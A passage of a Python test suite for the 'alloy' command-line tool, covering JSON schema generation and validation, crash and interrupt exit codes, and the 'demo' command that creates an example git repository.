        r"digest of 'nightly'.*make a new request with `alloy request`",
        check.out,
        re.MULTILINE,
    ), check.out
    assert "1 warning(s)" in check.err
    as_json = json.loads(ok(alloy("check", "--format", "json")).out)
    assert (as_json["errors"], as_json["warnings"]) == (0, 1)
    # The request file itself is left alone.
    assert requests(requestable)["old-run"]["spec"]["artifact"] == f"nightly@{old}"


# --- alloy schema -----------------------------------------------------------------------------


KIND_FILES = {
    "Project": "project.schema.json",
    "Intent": "intent.schema.json",
    "Request": "request.schema.json",
    "Approval": "approval.schema.json",
    "Artifact": "artifact.schema.json",
    "Trace": "trace.schema.json",
}


def _matches(schema: dict[str, Any], value: Any, root: dict[str, Any]) -> list[str]:
    """The subset of JSON Schema 2020-12 that pydantic emits, for when `jsonschema` is absent."""
    if "$ref" in schema:
        ref = schema["$ref"]
        assert ref.startswith("#/$defs/"), ref
        return _matches(root["$defs"][ref.removeprefix("#/$defs/")], value, root)
    if "anyOf" in schema and all(_matches(s, value, root) for s in schema["anyOf"]):
        return [f"{value!r} matches no branch of anyOf"]
    if "oneOf" in schema and sum(not _matches(s, value, root) for s in schema["oneOf"]) != 1:
        return [f"{value!r} does not match exactly one branch of oneOf"]
    kinds = {"object": dict, "array": list, "string": str, "boolean": bool, "null": type(None)}
    kind = schema.get("type")
    if kind == "integer":
        if not isinstance(value, int) or isinstance(value, bool):
            return [f"{value!r} is not an integer"]
    elif kind is not None and not isinstance(value, kinds[kind]):
        return [f"{value!r} is not of type {kind}"]
    if "const" in schema and value != schema["const"]:
        return [f"{value!r} is not {schema['const']!r}"]
    if "enum" in schema and value not in schema["enum"]:
        return [f"{value!r} is not one of {schema['enum']}"]
    errors: list[str] = []
    if isinstance(value, str):
        if "pattern" in schema and not re.search(schema["pattern"], value):
            errors.append(f"{value!r} does not match {schema['pattern']}")
        if len(value) < schema.get("minLength", 0) or len(value) > schema.get("maxLength", 1 << 62):
            errors.append(f"{value!r} has the wrong length")
    if (
        isinstance(value, int)
        and not isinstance(value, bool)
        and not schema.get("minimum", -(1 << 62)) <= value <= schema.get("maximum", 1 << 62)
    ):
        errors.append(f"{value!r} is out of range")
    if isinstance(value, list):
        if len(value) < schema.get("minItems", 0) or len(value) > schema.get("maxItems", 1 << 62):
            errors.append("wrong number of items")
        for item in value:
            errors += _matches(schema.get("items", {}), item, root)
    if isinstance(value, dict):
        props = schema.get("properties", {})
        errors += [f"missing {key!r}" for key in schema.get("required", []) if key not in value]
        for key, item in value.items():
            if "propertyNames" in schema:
                errors += _matches(schema["propertyNames"], key, root)
            if key in props:
                errors += _matches(props[key], item, root)
                continue
            patterned = [
                s for p, s in schema.get("patternProperties", {}).items() if re.search(p, key)
            ]
            for sub in patterned:
                errors += _matches(sub, item, root)
            extra = schema.get("additionalProperties", True)
            if not patterned and extra is False:
                errors.append(f"unknown field {key!r}")
            elif not patterned and isinstance(extra, dict):
                errors += _matches(extra, item, root)
    return errors


def intent_data(text: str) -> dict[str, Any]:
    """An intent as plain data. PyYAML reads the key `on` as YAML 1.1's true; Alloy does not."""
    doc: dict[str, Any] = yaml.safe_load(text)
    automation = doc["spec"]["automation"]
    automation["on"] = automation.pop(True)
    return doc


def schema_errors(schema: dict[str, Any], document: Any) -> list[str]:
    """Errors from the subset validator, and from `jsonschema` too where it is installed."""
    errors = _matches(schema, document, schema)
    try:
        import jsonschema
    except ImportError:
        return errors
    validator = jsonschema.Draft202012Validator(schema)
    return errors + [f"jsonschema: {e.message}" for e in validator.iter_errors(document)]


def test_schema_out_writes_one_schema_per_kind_that_validates_real_documents(
    requestable: GitRepo, alloy: Alloy, tmp_path: Path
) -> None:
    out = tmp_path / "out" / "schemas"
    result = ok(alloy("schema", "--out", str(out)))
    assert sorted(p.name for p in out.iterdir()) == sorted(KIND_FILES.values())
    assert len(result.out.splitlines()) == len(KIND_FILES)
    schemas = {kind: json.loads((out / name).read_text()) for kind, name in KIND_FILES.items()}
    for kind, schema in schemas.items():
        assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
        assert schema["$id"].endswith(f"/{KIND_FILES[kind]}")
        assert schema["title"] == kind
        assert {"apiVersion", "kind", "metadata", "spec"} <= set(schema["properties"])
        assert {"apiVersion", "kind", "metadata"} <= set(schema["required"])
        assert ("spec" in schema["required"]) == (kind != "Project")  # a project may omit spec
        # `alloy schema KIND` prints the same schema.
        assert json.loads(ok(alloy("schema", kind.lower())).out) == schema

    ok(alloy("request", "nightly", "--reason", "r", "--input", "count=2", "--name", "rerun"))
    artifact_doc = artifact(requestable, "nightly")
    documents = {
        "Project": yaml.safe_load(PROJECT),
        "Intent": intent_data(EXPLAINED),
        "Request": requests(requestable)["rerun"],
        "Approval": {
            "apiVersion": "alloy.dev/v1",
            "kind": "Approval",
            "metadata": {"name": "ok-publish"},
            "spec": {
                "execution": "exe-0123456789abcdef",
                "gate": {"block": "publish", "index": 0},
                "decision": "approve",
                "approver": "alice",
            },
        },
        "Artifact": artifact_doc,
        "Trace": {
            "apiVersion": "alloy.dev/v1",
            "kind": "Trace",
            "metadata": {"name": "exe-0123456789abcdef"},
            "spec": {
                "intent": "nightly",
                "artifact": {"name": "nightly", "digest": artifact_doc["digest"]},
                "event": {"type": "apply", "key": artifact_doc["digest"]},
                "status": "succeeded",
                "startedAt": "2024-05-01T02:00:00Z",
                "finishedAt": "2024-05-01T02:00:03.5Z",
                "blocks": [
                    {
                        "id": "build",
                        "status": "succeeded",
                        "attempts": [
                            {
                                "number": 1,
                                "startedAt": "2024-05-01T02:00:00Z",
                                "exitCode": 0,
                                "outcome": "succeeded",
                            }
                        ],
                    }
                ],
            },
        },
    }
    for kind, document in documents.items():
        from alloy.model import KINDS  # the models are the source of the schemas: both agree

        KINDS[kind].model_validate_json(json.dumps(document))
        assert schema_errors(schemas[kind], document) == [], kind

    # The schemas are not vacuous: a misspelt field and a wrong type are refused.
    bad_intent = intent_data(EXPLAINED)
    bad_intent["spec"]["automation"]["blocks"][0]["timout"] = "20m"
    assert schema_errors(schemas["Intent"], bad_intent)
    bad_request = json.loads(json.dumps(documents["Request"]))
    bad_request["spec"]["artifact"] = "nightly@latest"
    assert schema_errors(schemas["Request"], bad_request)
    assert schema_errors(schemas["Artifact"], {**artifact_doc, "kind": "Intent"})

    # Writing again is idempotent.
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    ok(alloy("schema", "--out", str(out)))
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_schema_usage_errors(alloy: Alloy) -> None:
    assert "Intent" in ok(alloy("schema")).out  # without a kind: the kinds
    assert "did you mean 'Intent'" in ok(alloy("schema", "intnet"), 2).err


# --- the error boundary in a real process -----------------------------------------------------


def _run_python(code: str, cwd: Path, tmp: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", textwrap.dedent(code)],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        env={**os.environ, "TMPDIR": str(tmp)},
    )


def test_a_bug_exits_3_with_a_crash_log_and_no_traceback(repo: GitRepo, tmp_path: Path) -> None:
    crash_dir = tmp_path / "crash"
    crash_dir.mkdir()
    proc = _run_python(
        """
        import alloy.workspace

        def broken_check(root, **kwargs):
            return 1 / 0

        alloy.workspace.check = broken_check
        from alloy.cli import main
        main(["check"])
        """,
        repo.path,
        crash_dir,
    )
    assert proc.returncode == 3, proc.stderr
    assert "Traceback" not in proc.stderr
    assert "internal error (ZeroDivisionError: division by zero)" in proc.stderr
    assert "This is a bug" in proc.stderr
    match = re.search(r"the crash log is at (\S+)", proc.stderr)
    assert match, proc.stderr
    log = Path(match.group(1))
    assert log.is_file()
    assert log.parent == crash_dir
    text = log.read_text()
    assert text.startswith("alloy ")
    assert "Traceback (most recent call last)" in text
    assert "in broken_check" in text
    assert "ZeroDivisionError: division by zero" in text


def test_ctrl_c_exits_130_without_a_traceback(repo: GitRepo, tmp_path: Path) -> None:
    proc = _run_python(
        """
        import alloy.workspace

        def interrupted(root, **kwargs):
            raise KeyboardInterrupt

        alloy.workspace.compile_repository = interrupted
        from alloy.cli import main
        main(["compile"])
        """,
        repo.path,
        tmp_path,
    )
    assert proc.returncode == 130
    assert proc.stderr.strip() == "alloy: interrupted"


# --- alloy demo -------------------------------------------------------------------------------


def test_demo_creates_a_committed_repository_and_explains_it(tmp_path: Path) -> None:
    result = ok(run_cli("alloy", "demo", "showcase", cwd=tmp_path))
    demo = tmp_path / "showcase"
    assert git(demo, "rev-parse", "--show-toplevel").strip() == str(demo.resolve())
    assert git(demo, "status", "--porcelain") == ""
    assert len(git(demo, "log", "--format=%H").split()) == 2
    tracked = git(demo, "ls-files", ARTIFACTS).split()
    assert tracked == [f"{ARTIFACTS}/weekly-report.json"]  # the proposed intent does not compile

    explain = ok(run_cli("alloy", "explain", "weekly-report", cwd=demo)).out
    assert "$ alloy explain weekly-report" in result.out
    # Everything but the upcoming schedule slots (time moves on) is printed as `alloy explain`.
    stable = [line for line in explain.splitlines() if "next " not in line]
    assert len(stable) > 10
    assert all(line in result.out.splitlines() for line in stable)
    for text in (
        "What: A short report",
        "Why: Nobody reads the git log",
        "AC-1:",
        "1. report",
        "2. announce (after report)",
        "wrote .alloy/artifacts/weekly-report.json",
        "artifacts are up to date",
    ):
        assert text in result.out

    # The demo repository is what it says: valid, compiled, and explains its other intent too.
    ok(run_cli("alloy", "check", cwd=demo))
    ok(run_cli("alloy", "compile", "--check", cwd=demo))
    assert "State: proposed" in ok(run_cli("alloy", "explain", "docs-are-linked", cwd=demo)).out

    # Run again, the same demo is left as it is (the README's command runs twice in a row) ...
    head = git(demo, "rev-parse", "HEAD")
    again = ok(run_cli("alloy", "demo", "showcase", cwd=tmp_path))
    assert "left as it is" in again.out
    assert git(demo, "rev-parse", "HEAD") == head
    assert git(demo, "status", "--porcelain") == ""
    # ... but a demo someone changed, or any other directory with files, is never touched.
    intent = demo / ".alloy" / "intents" / "weekly-report.yaml"
    intent.write_text(intent.read_text() + "# mine\n")
    refused = ok(run_cli("alloy", "demo", "showcase", cwd=tmp_path), 1)
    assert "is not empty" in refused.err
    assert intent.read_text().endswith("# mine\n")
